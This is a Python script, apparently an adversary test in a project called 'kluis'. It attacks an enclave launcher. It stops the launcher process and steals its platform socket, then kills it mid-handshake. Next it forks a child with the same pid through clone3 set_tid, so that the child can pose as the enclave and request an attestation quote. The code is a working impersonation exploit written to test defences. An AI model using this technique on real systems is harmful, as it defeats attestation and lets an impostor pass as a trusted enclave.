"""End an enclave in the midst of its first handshake, and go on as another process with its pid.

    python given_pid.py SPAWNER

Prints one line: ``answered`` and the enclave's measurement if the platform took the process for the enclave.
"""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import sys
import time
from pathlib import Path

from kluis.formats.kluis import channel
from kluis.formats.sgx import quote
from kluis.formats.sgx.report import ReportBody
from tests.adversary import attacks

PLATFORM_FD = 5
SOON = 120.0
CLONE3 = 435
_python = ctypes.PyDLL(None, use_errno=True)  # keeps the interpreter's lock across the fork


class CloneArguments(ctypes.Structure):
    """``struct clone_args`` of clone3(2)."""

    _fields_ = tuple(
        (name, ctypes.c_uint64)
        for name in (
            "flags", "pidfd", "child_tid", "parent_tid", "exit_signal", "stack", "stack_size", "tls",
            "set_tid", "set_tid_size", "cgroup",
        )
    )  # fmt: skip


def fork_as(pid: int) -> int:
    """Fork; the child has this pid. 0 in the child.

    Raises:
        OSError: the kernel does not give this pid.
    """
    wanted = ctypes.c_int(pid)
    arguments = CloneArguments(exit_signal=signal.SIGCHLD, set_tid=ctypes.addressof(wanted), set_tid_size=1)
    made = int(_python.syscall(CLONE3, ctypes.byref(arguments), ctypes.sizeof(arguments)))
    if made < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return made


def starting(spawner: int) -> int:
    """Wait for an enclave that executes its launcher, and stop it: its pid."""
    until = time.monotonic() + SOON
    while time.monotonic() < until:
        for pid in attacks.launchers(spawner):
            try:
                if os.readlink(f"/proc/{pid}/exe").endswith("kluis-launcher"):
                    os.kill(pid, signal.SIGSTOP)
                    return pid
            except OSError:
                continue
    raise LookupError("an enclave that starts")


def speak(end: socket.socket, challenge: bytes) -> str:
    """Do the handshake and get a quote; return the result."""
    offer = channel.Offer()
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as named:
        named.bind(channel.proof_name(offer.hello, challenge))
        named.listen(0)
        try:
            socket.send_fds(end, [offer.hello], [named.fileno()])
            answer = end.recv(channel.MAX_FRAME)
            if not answer:
                return "refused"
            session = offer.accept(answer, answer[-32:])
            end.send(session.seal_request(channel.Quote(bytes(64))))
            reply = session.open_reply(end.recv(channel.MAX_FRAME))
        except OSError as error:
            return f"refused: {error.strerror}"
    if not isinstance(reply, channel.Bytes):
        return f"got {reply}"
    body = quote.parse(reply.value).body
    return f"answered {body.mrenclave.hex() if isinstance(body, ReportBody) else body}"


def main(spawner: int) -> None:
    """Attack the next start."""
    print("ready", flush=True)
    pid = starting(spawner)
    end = socket.socket(fileno=attacks.steal(pid, PLATFORM_FD))
    end.settimeout(SOON)
    end.send(channel.READY)
    challenge = end.recv(channel.CHALLENGE_SIZE)
    os.kill(spawner, signal.SIGSTOP)  # it reports no end meanwhile
    try:
        os.kill(pid, signal.SIGKILL)
        until = time.monotonic() + SOON
        while Path(f"/proc/{pid}").exists() and time.monotonic() < until:
            time.sleep(0.001)
        child = fork_as(pid)
        if child == 0:
            end.settimeout(5)
            print(speak(end, challenge), flush=True)
            os._exit(0)
    finally:
        os.kill(spawner, signal.SIGCONT)
    os.waitpid(child, 0)


if __name__ == "__main__":
    main(int(sys.argv[1]))
